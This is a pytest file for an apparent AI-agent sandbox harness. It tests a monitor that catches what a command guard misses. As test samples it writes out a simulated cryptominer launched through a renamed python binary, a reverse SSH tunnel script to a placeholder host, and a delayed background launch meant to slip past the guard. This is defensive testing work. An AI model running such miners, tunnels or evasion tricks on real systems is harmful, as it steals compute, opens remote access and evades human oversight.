"""The monitor watching real sandboxes: what the guard cannot see is caught when it runs.

The simulated miner is a bounded CPU burner (it stops by itself after 20 s) whose argv
carries a stratum URL; the sandboxes have no network, so it never connects anywhere.
Scripts are written with ``write_file`` (not through the guard), as an agent would
write a file with an editor tool and run it in a later step.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import pytest

from corral.agent import Environment
from corral.events import EventKind, MemorySink
from corral.guard import Guard
from corral.monitor import Monitor
from corral.policy import load_policy
from corral.sandbox import KillReason

BURNER = "import time\nt = time.time()\nwhile time.time() - t < 20:\n    pass\n"
POOL = "stratum+tcp://pool.sim.test:3333"


@pytest.fixture
def events() -> MemorySink:
    return MemorySink()


@pytest.fixture
async def monitor(events: MemorySink) -> AsyncIterator[Monitor]:
    mon = Monitor(events, check_argv=Guard(load_policy("default").guard).check_argv)
    await mon.start()
    try:
        yield mon
    finally:
        await mon.stop()


def kill_policy() -> object:
    # Kill the harmful step only, so the sandbox survives for the next assertions.
    return load_policy("default", {"response.critical": "kill", "response.high": "kill"})


async def test_renamed_miner_is_killed_and_attributed(monitor: Monitor,
                                                      events: MemorySink) -> None:
    async with await Environment.create(kill_policy(), sink=events, monitor=monitor,
                                        episode_id="ep-miner") as env:
        await env.sandbox.write_file("/workspace/burn.py", BURNER)
        await env.sandbox.write_file(
            "/workspace/start.sh",
            f"cp /usr/bin/python3 /workspace/python3\nexec /workspace/python3 burn.py {POOL}\n",
        )
        r = await env.execute("cd /workspace && bash start.sh", step=3, timeout=30)
        assert not r.denied and r.exit_code == 137
        assert r.kill_reason == KillReason.MONITOR
        hit = [v for v in r.violations if v["source"] == "monitor"]
        assert hit and {v["step"] for v in hit} == {3}
        assert hit[0]["argv"][0] == "/workspace/python3" and POOL in hit[0]["argv"]
        assert hit[0]["category"] == "cryptomining" and hit[0]["attack"] == "T1496"
        # The sandbox lives on; the burner does not.
        assert (await env.execute("pgrep -c -x python3 || true")).stdout.strip() == "0"
    responses = events.of_kind(EventKind.RESPONSE)
    assert responses and responses[0].step == 3 and responses[0].episode_id == "ep-miner"
    assert responses[0].data["latency_ms"] >= 0


async def test_tunnel_script_written_early_and_run_later_is_caught(monitor: Monitor) -> None:
    async with await Environment.create(kill_policy(), monitor=monitor) as env:
        await env.sandbox.write_file(
            "/workspace/tools/sync.sh",
            "#!/bin/sh\nexec ssh -o BatchMode=yes -fNR 8080:localhost:22 agent@203.0.113.10\n",
            mode=0o755,
        )
        r0 = await env.execute("ls -l /workspace/tools", step=0)
        assert r0.violations == []
        r1 = await env.execute("echo build; /workspace/tools/sync.sh; echo done", step=1)
        assert not r1.denied
        tunnel = [v for v in r1.violations if v["source"] == "monitor"]
        assert tunnel and tunnel[0]["step"] == 1
        assert tunnel[0]["category"] in ("tunnel", "tunneling", "remote_access", "tunnelling")
        assert tunnel[0]["argv"][0] == "ssh" and "-fNR" in tunnel[0]["argv"]


async def test_background_process_turning_harmful_is_traced_to_its_origin_step(
    monitor: Monitor, events: MemorySink
) -> None:
    async with await Environment.create(kill_policy(), sink=events, monitor=monitor) as env:
        await env.sandbox.write_file("/workspace/burn.py", BURNER)
        await env.sandbox.write_file(
            "/workspace/later.sh", f"sleep 1\nexec python3 /workspace/burn.py {POOL}\n"
        )
        r0 = await env.execute("nohup bash /workspace/later.sh > /dev/null 2>&1 &", step=0)
        assert r0.violations == [] and r0.exit_code == 0
        r1 = await env.execute("sleep 3; echo finished", step=1)  # harmless itself
        assert r1.stdout == "finished\n" and r1.kill_reason is None
        origin = [v for v in r1.violations if v["source"] == "monitor"]
        assert origin and {v["step"] for v in origin} == {0}  # blamed on step 0, not 1
        assert (await env.execute("pgrep -c -x python3 || true")).stdout.strip() == "0"
    alerts = events.of_kind(EventKind.ALERT)
    assert alerts and all(a.step == 0 for a in alerts)


async def test_short_lived_processes_are_seen_with_their_step(monitor: Monitor) -> None:
    async with await Environment.create("default", monitor=monitor) as env:
        await env.execute("for i in 1 2 3 4 5; do sleep 0.005; /bin/true; done", step=2)
        await asyncio.sleep(0.2)
        seen = [p for p in monitor.processes(env.sandbox.id) if p["step"] == 2]
        # Processes living 5 ms are seen in full, with their command line.
        sleeps = [p for p in seen if p["argv"] == ["sleep", "0.005"]]
        assert len(sleeps) == 5
        # Sub-millisecond ones are all recorded too; a few may have left before their
        # command line could be read, and say so rather than vanish.
        assert len(seen) >= 1 + 10  # the shell, five sleeps, five trues
